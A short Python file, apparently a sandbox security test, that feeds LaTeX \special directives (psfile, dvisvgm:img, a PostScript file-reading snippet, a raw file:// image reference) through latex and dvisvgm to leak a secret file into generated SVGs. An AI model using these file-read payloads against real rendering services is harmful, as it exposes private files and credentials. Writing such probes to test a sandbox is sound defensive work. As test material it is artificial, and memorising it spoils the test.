"""Puts PostScript and pictures by path into a DVI file, which dvisvgm follows when it makes an SVG.

title: dvisvgm follows no path out
kind: tex
canary: the secrets in the files
"""
import pathlib, subprocess
from manim import Scene

HOST = {}

class Attack(Scene):
    def construct(self):
        path = HOST["secrets"]["key"]
        for number, special in enumerate((f"psfile={path} llx=0 lly=0 urx=9 ury=9", f"dvisvgm:img 9 9 {path}",
                                          f"ps: ({path}) (r) file 999 string readstring pop print flush",
                                          f'dvisvgm:raw <image href="file://{path}" width="9" height="9"/>')):
            pathlib.Path("a.tex").write_text(r"\documentclass{article}\begin{document}a\special{%s}\end{document}" % special)
            subprocess.run(["latex", "-interaction=nonstopmode", "a.tex"], capture_output=True)
            done = subprocess.run(["dvisvgm", "--no-fonts", f"--output=out{number}.svg", "a.dvi"], capture_output=True, text=True)
            print(done.stdout, done.stderr)
            for made in pathlib.Path().glob("out*.svg"):
                print(made.read_text())
